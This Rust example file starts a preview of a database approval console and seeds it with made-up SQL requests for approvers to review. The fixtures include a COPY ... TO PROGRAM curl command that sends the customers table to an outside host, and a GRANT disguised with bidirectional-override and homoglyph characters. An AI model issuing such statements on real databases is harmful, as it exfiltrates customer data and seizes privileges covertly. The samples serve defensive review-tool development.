//! Serves the console with made-up requests on <http://127.0.0.1:8432>, for working on its pages:
//! `cargo run --example console_preview [ADDRESS]`, then sign in as `bob` with password `bob-preview`,
//! or as the administrator `ruth` with `ruth-preview`.

use std::error::Error;
use std::net::SocketAddr;
use std::sync::Arc;

use holdpoint::approval::{AccessAsked, Asker, Broker, StandingAsked};
use holdpoint::console::{ConsoleState, router};
use holdpoint::identity::{Directory, NewUser, SignInThrottle};
use holdpoint::model::{
    Basis, Clock, Earlier, EarlierOutcome, Effect, Holder, NewRequest, Origin, Outcome, Parameter, Principal,
    Quorum, RequestId, Shape, SystemClock, TableAccess, Verdict,
};
use holdpoint::policy::{Policy, PolicyInForce, Subject};
use holdpoint::store::sqlite::SqliteStore;
use holdpoint::store::{Actor, Grounds, RequestStore, UserStore};
use jiff::SignedDuration;
use tokio_util::sync::CancellationToken;

/// Who may ask for access.
const POLICY: &str = r#"
    default_groups = ["dba"]
    [[access]]
    name = "access is asked for"
    up_to = "schema"
    longest = "8h"
    approval = { any_of = ["dba", "security"] }
"#;

#[tokio::main]
async fn main() -> Result<(), Box<dyn Error>> {
    let address: SocketAddr = std::env::args()
        .nth(1)
        .unwrap_or_else(|| "127.0.0.1:8432".to_owned())
        .parse()?;
    let clock: Arc<dyn Clock> = Arc::new(SystemClock);
    let store = Arc::new(SqliteStore::open("sqlite::memory:").await?);
    let directory = Arc::new(Directory::new(
        store.clone(),
        clock.clone(),
        store.secret().await?,
    ));
    for (name, groups) in [
        ("alice", vec!["developers"]),
        ("bob", vec!["dba"]),
        ("carol", vec!["dba", "security"]),
        ("dora", vec!["support"]),
        ("ruth", vec![]),
    ] {
        let groups: Vec<String> = groups.into_iter().map(str::to_owned).collect();
        let user = NewUser {
            name,
            groups: &groups,
            admin: name == "ruth",
        };
        directory
            .add_user(Actor::CommandLine, user, &format!("{name}-preview"))
            .await?;
    }
    let broker = Arc::new(Broker::new(
        store.clone(),
        clock.clone(),
        tokio::runtime::Handle::current(),
    ));
    make_up(&store, &broker, clock.as_ref()).await?;
    let policy = Policy::parse(POLICY)?;
    make_up_access(&store, &broker, &policy, clock.as_ref()).await?;
    let state = ConsoleState {
        broker,
        policy: Arc::new(PolicyInForce::new(policy)),
        databases: ["shop".to_owned()].into(),
        directory,
        throttle: Arc::new(SignInThrottle::new(clock.clone())),
        clock,
        public_url: format!("http://{address}"),
        secure_cookies: false,
        shutdown: CancellationToken::new(),
    };
    tokio::spawn(keep_asking(state.broker.clone(), state.clock.clone()));
    let listener = tokio::net::TcpListener::bind(address).await?;
    println!("http://{address}: sign in as bob with password bob-preview");
    let app = router(state).into_make_service_with_connect_info::<SocketAddr>();
    Ok(axum::serve(listener, app).await?)
}

/// Every half minute somebody asks for something more, so that there is something to see live.
async fn keep_asking(broker: Arc<Broker>, clock: Arc<dyn Clock>) {
    let mut tickets = Vec::new();
    for number in 1000.. {
        tokio::time::sleep(std::time::Duration::from_secs(30)).await;
        let story = Story { ago: 0, ..PENDING[0] };
        // The ticket is kept, for a request whose session is gone is withdrawn.
        let request = story.request(number, clock.as_ref());
        tickets.push(broker.hold(request, Asker::default()).await);
    }
}

/// What somebody made up asks for.
struct Story {
    ago: i64,
    user: &'static str,
    application: &'static str,
    statement: &'static str,
    parameters: &'static [(Option<&'static str>, &'static str)],
    command: &'static str,
    effect: Effect,
    tables: &'static [(&'static str, bool)],
    groups: &'static [&'static str],
}

impl Story {
    fn request(&self, number: u64, clock: &dyn Clock) -> NewRequest {
        let created_at = clock.now() - SignedDuration::from_secs(self.ago);
        let owned = |texts: &[&str]| texts.iter().map(|&t| t.to_owned()).collect::<Vec<_>>();
        NewRequest {
            id: RequestId::from_random(number.wrapping_mul(0x1f3_7a5c_d91b_e377)),
            origin: Origin {
                database: "shop".to_owned(),
                user: self.user.to_owned(),
                application_name: self.application.to_owned(),
                client_addr: "10.20.4.17:51822".to_owned(),
                in_transaction: self.statement.contains("payments"),
                transaction_since: None,
            },
            statement: self.statement.to_owned(),
            parameters: self
                .parameters
                .iter()
                .map(|(value, type_name)| Parameter {
                    value: value.map(str::to_owned),
                    r#type: Some((*type_name).to_owned()),
                })
                .collect(),
            digest: [0; 32],
            command: self.command.to_owned(),
            effect: self.effect,
            tables: self
                .tables
                .iter()
                .map(|(name, written)| TableAccess {
                    schema: Some("public".to_owned()),
                    name: (*name).to_owned(),
                    written: *written,
                })
                .collect(),
            functions: if self.statement.contains("now()") {
                owned(&["now"])
            } else {
                Vec::new()
            },
            signals: match self.effect {
                Effect::Unknown => {
                    owned(&["the text could not be parsed: syntax error at or near \"SELEC\""])
                }
                Effect::Write if self.command.contains("SELECT") => {
                    owned(&["a data-modifying WITH query deletes rows"])
                }
                _ => Vec::new(),
            },
            unfiltered: self.command == "UPDATE" && !self.statement.contains("WHERE"),
            rule: format!("{} needs approval", self.effect),
            quorum: Quorum::each_of(owned(self.groups)),
            self_approval: false,
            justification: None,
            ticket: None,
            shape: self.command.starts_with("DELETE").then(|| Shape::new([7; 32])),
            earlier: vec![Earlier {
                text: "SELECT count(*) FROM payments WHERE customer = ?".to_owned(),
                request: None,
                is_cut: false,
                seconds_before: 12,
                same_transaction: true,
                outcome: EarlierOutcome::Passed,
            }],
            created_at,
            expires_at: created_at + SignedDuration::from_mins(30),
        }
    }
}

const PENDING: &[Story] = &[
    Story {
        ago: 95,
        user: "alice",
        application: "psql",
        statement: "DELETE FROM payments\nWHERE status = 'failed'\n  AND created_at < $1 -- older than a quarter\n  AND customer_id = ANY ($2)\nRETURNING id;",
        parameters: &[
            (Some("2026-01-01 00:00:00+00"), "timestamptz"),
            (Some("{17,42,99}"), "int4[]"),
            (None, "text"),
        ],
        command: "DELETE",
        effect: Effect::Write,
        tables: &[("customers", false), ("payments", true)],
        groups: &["dba"],
    },
    Story {
        ago: 412,
        user: "billing-service",
        application: "billing 4.12",
        statement: "UPDATE orders SET total = total * 1.19",
        parameters: &[],
        command: "UPDATE",
        effect: Effect::Write,
        tables: &[("orders", true)],
        groups: &["dba"],
    },
    Story {
        ago: 12,
        user: "mallory",
        application: "DBeaver \u{202E}lqsp",
        statement: "SELECT * FROM customers WHERE note = '\u{202E}' OR name = 'x\u{200B}' /* ok */;\nGRANT ALL ON p\u{430}yments TO mallory;",
        parameters: &[],
        command: "SELECT, GRANT",
        effect: Effect::Privilege,
        tables: &[("customers", false), ("pаyments", true)],
        groups: &["dba", "security"],
    },
    Story {
        ago: 1730,
        user: "alice",
        application: "migrate",
        statement: "ALTER TABLE orders\n    ADD COLUMN shipped_at timestamptz DEFAULT now(),\n    DROP COLUMN legacy_ref;",
        parameters: &[],
        command: "ALTER TABLE",
        effect: Effect::Schema,
        tables: &[("orders", true)],
        groups: &["dba"],
    },
    Story {
        ago: 45,
        user: "agent-7",
        application: "langchain",
        statement: "COPY (SELECT * FROM customers) TO PROGRAM 'curl -T - https://example.com/'",
        parameters: &[],
        command: "COPY PROGRAM",
        effect: Effect::Server,
        tables: &[("customers", false)],
        groups: &["security", "dba"],
    },
    Story {
        ago: 3,
        user: "agent-7",
        application: "langchain",
        statement: "SELEC id FORM orders",
        parameters: &[],
        command: "UNKNOWN",
        effect: Effect::Unknown,
        tables: &[],
        groups: &["security"],
    },
    Story {
        ago: 240,
        user: "bob",
        application: "psql",
        statement: "WITH gone AS (\n  DELETE FROM orders WHERE id = 7 RETURNING *\n)\nSELECT count(*) FROM gone;",
        parameters: &[],
        command: "SELECT, DELETE",
        effect: Effect::Write,
        tables: &[("orders", true)],
        groups: &["dba"],
    },
];

const SETTLED: &[Story] = &[
    Story {
        ago: 8000,
        user: "alice",
        application: "psql",
        statement: "DELETE FROM orders WHERE id = 11",
        parameters: &[],
        command: "DELETE",
        effect: Effect::Write,
        tables: &[("orders", true)],
        groups: &["dba"],
    },
    Story {
        ago: 5200,
        user: "alice",
        application: "psql",
        statement: "DROP TABLE customers_old",
        parameters: &[],
        command: "DROP TABLE",
        effect: Effect::Schema,
        tables: &[("customers_old", true)],
        groups: &["dba"],
    },
    Story {
        ago: 4100,
        user: "billing-service",
        application: "billing 4.12",
        statement: "INSERT INTO payments (order_id, amount) VALUES ($1, $2)",
        parameters: &[(Some("91"), "int8"), (Some("12.50"), "numeric")],
        command: "INSERT",
        effect: Effect::Write,
        tables: &[("payments", true)],
        groups: &["dba"],
    },
    Story {
        ago: 2600,
        user: "alice",
        application: "psql",
        statement: "CREATE ROLE reporting LOGIN",
        parameters: &[],
        command: "CREATE ROLE",
        effect: Effect::Privilege,
        tables: &[],
        groups: &["dba"],
    },
];

/// Windows and standing approvals, and what ran because the glass was broken.
async fn make_up_access(
    store: &SqliteStore,
    broker: &Broker,
    policy: &Policy,
    clock: &dyn Clock,
) -> Result<(), Box<dyn Error>> {
    let person = |name: &str, groups: &[&str]| Principal {
        name: name.to_owned(),
        groups: groups.iter().map(|&group| group.to_owned()).collect(),
        admin: false,
    };
    let (bob, carol) = (person("bob", &["dba"]), person("carol", &["dba", "security"]));
    let hour = std::time::Duration::from_hours(1);
    let mut asked = Vec::new();
    for (name, up_to, reason) in [
        (
            "alice",
            Effect::Write,
            "incident 42: orders are stuck in state \"paid\"",
        ),
        ("dora", Effect::Schema, "release 4.13, as agreed on Monday"),
        ("bob", Effect::Write, "clearing out test data"),
    ] {
        let by = person(name, &["developers"]);
        let access = policy.access_for(&Subject::new("shop", &by.name, &by.groups), up_to);
        let wish = AccessAsked {
            database: "shop".to_owned(),
            up_to,
            length: hour,
            justification: reason.to_owned(),
            ticket: Some("OPS-42".to_owned()),
        };
        let access = access.ok_or("a rule is for everybody")?;
        asked.push(broker.ask_access(&by, wish, access).await?.asked.id);
    }
    broker
        .decide_grant(
            asked[1],
            &carol,
            Verdict::Approve,
            Some(hour / 2),
            "half an hour will do",
        )
        .await?;
    for (holder, times, by) in [
        (None, Some(20), &bob),
        (Some(Holder::Group("support".to_owned())), None, &carol),
    ] {
        let request = PENDING[0].request(500 + u64::from(times.is_some()), clock);
        store.insert_pending(&request).await?;
        let standing = StandingAsked {
            holder,
            length: hour * 8,
            times,
            max_rows: times.map(|_| 100),
            justification: Some("the nightly clean-up, looked at line by line".to_owned()),
        };
        let given = broker.allow_like(request.id, by, standing).await?;
        if by.name == "carol" {
            broker.end_grant(given.asked.id, by, "for one night only").await?;
        }
    }
    let mut emergency = PENDING[1].request(600, clock);
    emergency.justification = Some("the shop is down, on call".to_owned());
    let grounds = Grounds {
        bypass: Some(&Basis::BreakGlass),
        groups: &[],
        counts_rows: false,
    };
    store.place(&emergency, grounds).await?;
    Ok(())
}

async fn make_up(store: &SqliteStore, broker: &Broker, clock: &dyn Clock) -> Result<(), Box<dyn Error>> {
    let carol = Principal {
        name: "carol".to_owned(),
        groups: vec!["dba".to_owned(), "security".to_owned()],
        admin: false,
    };
    let mut numbers = 1..;
    let mut add = async |story: &Story| -> Result<RequestId, Box<dyn Error>> {
        let request = story.request(numbers.next().unwrap_or_default(), clock);
        store.insert_pending(&request).await?;
        Ok(request.id)
    };
    for story in PENDING {
        add(story).await?;
    }
    let soon = |story: &Story| Story {
        ago: story.ago / 10,
        ..*story
    };
    let [executed, rejected, failed, withdrawn] = SETTLED else {
        return Err("four stories have an end".into());
    };
    let outcome = Outcome {
        tag: "DELETE 1".to_owned(),
        rows: Some(1),
        sqlstate: None,
        error: None,
        duration_ms: 14,
    };
    let id = add(&soon(executed)).await?;
    broker
        .decide(id, &carol, Verdict::Approve, "ticket 4711, checked with support")
        .await?;
    store.start(id, clock.now()).await?;
    store.finish(id, outcome.clone(), clock.now()).await?;

    let id = add(&soon(rejected)).await?;
    broker
        .decide(
            id,
            &carol,
            Verdict::Reject,
            "The nightly export still reads it.\nAsk again in March.",
        )
        .await?;

    let id = add(&soon(failed)).await?;
    broker.decide(id, &carol, Verdict::Approve, "").await?;
    store.start(id, clock.now()).await?;
    let failure = Outcome {
        tag: String::new(),
        rows: None,
        sqlstate: Some("23503".to_owned()),
        error: Some("insert or update on table \"payments\" violates foreign key constraint \"payments_order_id_fkey\"".to_owned()),
        duration_ms: 1820,
    };
    store.finish(id, failure, clock.now()).await?;

    let id = add(&soon(withdrawn)).await?;
    store
        .withdraw(id, "the client closed its connection", clock.now())
        .await?;
    Ok(())
}
